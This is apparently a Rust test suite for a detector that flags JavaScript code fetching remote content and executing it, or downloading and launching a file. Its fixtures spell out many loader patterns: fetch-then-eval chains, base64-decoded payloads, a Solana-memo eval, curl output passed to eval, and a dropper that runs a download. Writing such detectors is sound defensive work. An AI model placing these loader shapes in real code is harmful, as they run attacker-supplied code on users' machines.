use super::{RemoteRun, find_remote_run};

fn run(code: &str) -> Option<RemoteRun> {
    find_remote_run(code.as_bytes())
}

#[test]
fn a_response_decoded_then_evaluated_over_several_lines() {
    let code = "(async () => {\n  const res = await fetch(link, { headers: { os: process.platform } });\n  const code = Buffer.from(await res.text(), 'base64').toString();\n  eval(code);\n})();\n";
    assert_eq!(
        run(code),
        Some(RemoteRun {
            fetched_line: 2,
            run_line: 4
        })
    );
}

#[test]
fn a_response_handed_to_new_function() {
    let code = "const u = await contract.getString(addr);\nconst r = await fetch(u + '/' + process.platform);\nconst fn = new Function('require', await r.text());\nfn(require);\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(3));
}

#[test]
fn chunks_gathered_from_a_node_response() {
    let code = "const https = require('https');\nhttps.get(url, res => {\n  let body = '';\n  res.on('data', chunk => body += chunk);\n  res.on('end', () => {\n    vm.runInNewContext(body, { require });\n  });\n});\n";
    assert_eq!(
        run(code),
        Some(RemoteRun {
            fetched_line: 2,
            run_line: 6
        })
    );
}

#[test]
fn a_promise_chain_ending_in_eval() {
    assert!(run("fetch(u).then(r => r.text()).then(eval);\n").is_some());
    assert!(
        run("fetch(u)\n  .then(function (r) { return r.text(); })\n  .then(t => { eval(t); });\n")
            .is_some()
    );
}

#[test]
fn destructured_axios_data() {
    let code =
        "const { data: payload } = await axios.get(C2);\nsetTimeout(() => eval(payload), 5000);\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(2));
}

#[test]
fn a_function_returning_the_response() {
    let code = "async function stage() {\n  const r = await got(base + id);\n  return r.body;\n}\n\nasync function main() {\n  const src = await stage();\n  const m = new module.constructor();\n  m._compile(src, 'x.js');\n}\nmain();\n";
    assert_eq!(
        run(code),
        Some(RemoteRun {
            fetched_line: 2,
            run_line: 9
        })
    );
}

#[test]
fn a_solana_memo_read_as_code() {
    let code = "const sigs = await conn.getSignaturesForAddress(new PublicKey(A));\nconst memo = sigs.find(s => s.memo).memo;\neval(atob(memo));\n";
    assert!(run(code).is_some());
}

#[test]
fn curl_output_evaluated() {
    let code =
        "const out = execSync('curl -s https://example.invalid/x').toString();\neval(out);\n";
    assert!(run(code).is_some());
}

#[test]
fn no_run_without_a_response_reaching_the_evaluator() {
    // Fetches JSON and evaluates a constant of its own.
    assert_eq!(
        run(
            "const r = await fetch(u);\nconst j = await r.json();\nconsole.log(j);\neval('1 + 1');\n"
        ),
        None
    );
    // The response is only logged; another value is evaluated.
    assert_eq!(
        run(
            "const res = await fetch(u);\nconst text = await res.text();\nconsole.log(text);\nconst expr = compileTemplate(tpl);\nnew Function('ctx', expr);\n"
        ),
        None
    );
    // No network call at all.
    assert_eq!(
        run("const code = fs.readFileSync(p, 'utf8');\neval(code);\n"),
        None
    );
}

#[test]
fn names_inside_an_evaluated_string_are_not_values() {
    // A development bundle wraps each module in eval("..."); the module's own text
    // names variables that elsewhere hold responses.
    let code = "var res = fetch(u);\neval(\"var res = 1;\\nmodule.exports = res;\\n//# sourceURL=webpack://x\");\n";
    assert_eq!(run(code), None);
}

#[test]
fn a_function_bound_to_a_name_is_not_a_response() {
    let code = "const load = async () => {\n  const r = await fetch(u);\n  return r.json();\n};\nconst f = new Function('a', 'b', 'return a + b');\nf(1, 2);\n";
    assert_eq!(run(code), None);
}

#[test]
fn property_names_and_object_keys_are_not_the_variable() {
    let code = "const data = await fetch(u);\nconst cfg = { data: 1 };\neval(cfg.data);\n";
    assert_eq!(run(code), None);
}

#[test]
fn hostile_input_ends_quickly() {
    // Thousands of chained bindings and unclosed brackets: bounded by the budget of
    // reading per byte.
    let mut code = String::from("let a0 = fetch(u);\n");
    for i in 1..5000 {
        code.push_str(&format!("let a{i} = a{} + (((;\n", i - 1));
    }
    code.push_str("eval(a4999);\n");
    let started = std::time::Instant::now();
    let _ = run(&code);
    assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
    // Ten thousand calls each handing a bare name, on one line: each name is looked up
    // as a function once, not once per call.
    let code = "a=fetch(u);eval(a);".repeat(10_000);
    let started = std::time::Instant::now();
    assert!(run(&code).is_some());
    assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
}

#[test]
fn a_name_in_another_scope_is_another_variable() {
    // An Emscripten bundle: `body` of a fetch callback, and the `body` of an unrelated
    // function that builds code for eval.
    let code = "function load(url) {\n  return fetch(url).then((response) => response.arrayBuffer().then((buffer) => {\n    const body = new TextDecoder('utf-8').decode(buffer);\n    throw new Error(body);\n  }));\n}\nfunction asm(start, body) {\n  var func = `(${args}) => { ${body} };`;\n  ASM_CONSTS[start] = eval(func);\n}\n";
    assert_eq!(run(code), None);
}

#[test]
fn an_assignment_follows_its_declaration_out_of_the_callback() {
    let code = "let code = '';\nhttps.get(u, res => {\n  res.on('data', c => { code += c; });\n});\nsetTimeout(() => eval(code), 3000);\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(5));
}

#[test]
fn every_parameter_of_a_request_callback() {
    let code = "request(url, (err, response, body) => {\n  if (!err) new Function('require', body)(require);\n});\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(2));
    let code = "https.get(url, (res) => {\n  let d = '';\n  res.on('data', (c) => { d += c; });\n  res.on('end', () => { const m = new module.constructor(); m._compile(d, 'x.js'); });\n});\n";
    assert_eq!(run(code).map(|r| r.run_line), Some(4));
}

#[test]
fn a_callback_nested_inside_an_argument_gets_something_else() {
    // `expr` is what a template helper hands its callback, not the response.
    let code = "fetch(u, { body: render(tpl, expr => { return eval(expr); }) });\n";
    assert_eq!(run(code), None);
}

fn dropped(code: &str) -> Option<super::DownloadRun> {
    super::analyse(code.as_bytes()).download_run
}

#[test]
fn a_download_written_then_started() {
    let code = "(async () => {\n  const r = await fetch(U);\n  const buf = Buffer.from(await r.arrayBuffer());\n  const p = path.join(os.homedir(), '.cache', 'helper');\n  fs.writeFileSync(p, buf, { mode: 0o755 });\n  cp.execFile(p);\n})();\n";
    let run = dropped(code).expect("download run");
    assert_eq!(
        (run.fetched_line, run.written_line, run.run_line),
        (2, 5, 6)
    );
    assert_eq!(run.path, "p");
    // Written as a module, then required.
    let code =
        "const { data } = await axios.get(U);\nfs.writeFileSync(tmp, data);\nrequire(tmp);\n";
    assert_eq!(dropped(code).map(|r| r.run_line), Some(3));
}

#[test]
fn a_download_kept_while_something_else_starts_is_not_a_dropper() {
    // An installer saves a release archive and runs tar on its own path of the archive.
    let code = "const res = await fetch(url);\nconst buf = Buffer.from(await res.arrayBuffer());\nfs.writeFileSync(archive, buf);\nexecFileSync('tar', ['-xzf', archive, '-C', dir]);\n";
    assert_eq!(dropped(code), None);
    // A config saved from a response, and git started.
    let code = "const r = await fetch(u);\nfs.writeFileSync(configPath, await r.text());\nspawn('git', ['status']);\n";
    assert_eq!(dropped(code), None);
}

/// Honest shapes from the review of the first version, each of which it flagged.
#[test]
fn the_response_beside_the_code_is_not_the_code() {
    for honest in [
        // The response in the context object, not the code.
        "const res=await fetch(u);vm.runInNewContext(localTpl,{status:res.status});",
        // One declaration statement, two bindings.
        "const t=fs.readFileSync(p,'utf8'),n=await fetch(u);new Function('d',t)(await n.json());",
        // `eval(r)` inside a message.
        "const r=await fetch(u);console.warn('never eval(r) here');",
        // A parameter of the same name.
        "const text=await (await fetch(u)).text();\nfunction compile(text){return new Function('d','return `'+text+'`')}",
        // A method called `request` is defined here, not called.
        "class A{request(req,res){const c=(src)=>new Function('l',src);res.end(c(tpl)(req))}}",
        // Two bundled modules each with a function `e`.
        "!function(){function e(t){return fetch(t)}window.f=e}();\n!function(){function e(t){return String(t)}Function('return '+e(x))()}();",
        // Module loaders run what their user asks for, from the address passed in.
        "System.instantiate = function (url, parent) {\n  return fetch(url).then(function (res) { return res.text(); }).then(function (source) { (0, eval)(source); });\n};",
        "require.load = function (context, moduleName, url) {\n  var xhr = new XMLHttpRequest();\n  xhr.open('GET', url, true);\n  xhr.onreadystatechange = function () { exec(xhr.responseText); };\n};\nfunction exec() { eval(arguments[0]); }",
        // A wrapper evaluating its own template, called with a response elsewhere.
        "function render(tpl, data){return new Function('d', tpl)(data)}\nconst r=await fetch(u);\nrender(TEMPLATE, await r.json());",
    ] {
        assert_eq!(run(honest), None, "{honest}");
    }
}

/// Loader shapes from the review, each of which the first version missed.
#[test]
fn loaders_written_the_ways_attackers_write_them() {
    for loader in [
        "async function g(){const r=await fetch(u);return r.text()}\ng().then(c=>eval(c));",
        "https.get(u,res=>{const a=[];res.on('data',c=>a.push(c));res.on('end',()=>eval(Buffer.concat(a).toString()))});",
        "const r=await fetch(u);o.code=await r.text();eval(o.code);",
        "const g=async()=>(await axios.get(u)).data;\neval(await g());",
        "axios.get(u).then(r=>{(0,eval)(r.data)});",
        "axios.get(u).then(r=>{globalThis.eval(r.data)});",
        "const E=eval;axios.get(u).then(r=>{E(r.data)});",
        "axios.get(u).then(r=>{require('vm').runInThisContext(r.data)});",
        "const nf=require('node-fetch');nf(u).then(r=>r.text()).then(c=>eval(c));",
        "const {get}=require('https');get(u,res=>{let d='';res.on('data',c=>d+=c);res.on('end',()=>eval(d))});",
        "https.get(u,async res=>{let d='';for await(const c of res)d+=c;eval(d)});",
        "fetch(u).then(r=>r.text()).then(c=>eval(`${c}`));",
        "fetch(u).then(r=>r.text()).then(c=>{\n// eval(c)\neval(c)});",
        "try{var r=await fetch(u);var c=await r.text()}catch(e){}eval(c);",
        "const x=new XMLHttpRequest();x.onload=function(){eval(this.response)};",
        // A wrapper around the evaluator, called or handed to `.then`.
        "function run(s){eval(s)}\nfetch(u).then(r=>r.text()).then(run);",
        "function run(opts, s){new Function(s)()}\nconst r=await fetch(u);\nrun({}, await r.text());",
        // A loader function given its address by the package itself.
        "function load(url){fetch(url).then(r=>r.text()).then(eval)}\nload('https://cdn.example/p.js');",
        "async function main(url){const r=await fetch(url);eval(await r.text())}\nmain(process.env.U);",
        "const U=atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS9w');\nasync function main(url){const r=await fetch(url);eval(await r.text())}\nmain(U);",
        // A callback handed by name.
        "function onRes(res){let d='';res.on('data',x=>d+=x);res.on('end',()=>eval(d))}\nhttps.get(u,onRes);",
    ] {
        assert!(run(loader).is_some(), "{loader}");
    }
}

#[test]
fn padding_does_not_switch_the_reading_off() {
    // Hundreds of names derived from the response saturate the reading; the run in the
    // function that fetched still counts.
    let mut code = String::from("(async()=>{const r=await fetch(u);const c=await r.text();\n");
    for i in 0..300 {
        code.push_str(&format!("const h{i}=r.status;\n"));
    }
    code.push_str("eval(c);})();\n");
    assert!(run(&code).is_some());
    // Bindings that overlap, to spend the budget before the loader is read.
    let code = format!(
        "var _=[{}];\nfetch(u).then(r=>r.text()).then(c=>eval(c));\n",
        "a=0,".repeat(400)
    );
    assert!(run(&code).is_some());
}

#[test]
fn detached_starts_that_run_when_a_module_is_loaded() {
    let starts = |code: &str| {
        let offsets: Vec<usize> = code.match_indices("detached").map(|(i, _)| i).collect();
        super::starts_on_load(code.as_bytes(), &offsets)
    };
    for on_load in [
        "spawn(a, [], { detached: true });",
        "if (win) { spawn(b, [], { detached: true }); }",
        "(async () => { fork(c, { detached: true }); })();",
        "setTimeout(() => spawn(d, [], { detached: true }), 10);",
    ] {
        assert!(starts(on_load), "{on_load}");
    }
    for deferred in [
        "function start() { spawn(e, [], { detached: true }); }",
        "const stop = () => { spawn(f, [], { detached: true }); };",
        "module.exports = function () { spawn(g, [], { detached: true }); };",
        "class Daemon { run() { spawn(h, [], { detached: true }); } }",
        // Documentation, and options kept for a function that is only defined.
        "// spawn(cmd, args, { detached: true })\nmodule.exports = add;",
        "const OPTIONS = { detached: true, stdio: 'ignore' };\nfunction start() { spawn(x, [], OPTIONS); }",
    ] {
        assert!(!starts(deferred), "{deferred}");
    }
}
